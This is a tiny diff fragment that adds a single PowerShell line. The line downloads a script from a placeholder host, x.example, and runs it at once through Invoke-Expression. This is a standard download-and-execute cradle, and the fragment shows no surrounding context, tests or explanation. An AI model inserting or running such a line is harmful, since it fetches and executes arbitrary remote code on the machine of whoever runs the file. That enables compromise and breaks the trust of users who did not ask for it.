@@ -1,0 +1,1 @@
+iex (New-Object Net.WebClient).DownloadString('https://x.example/a')
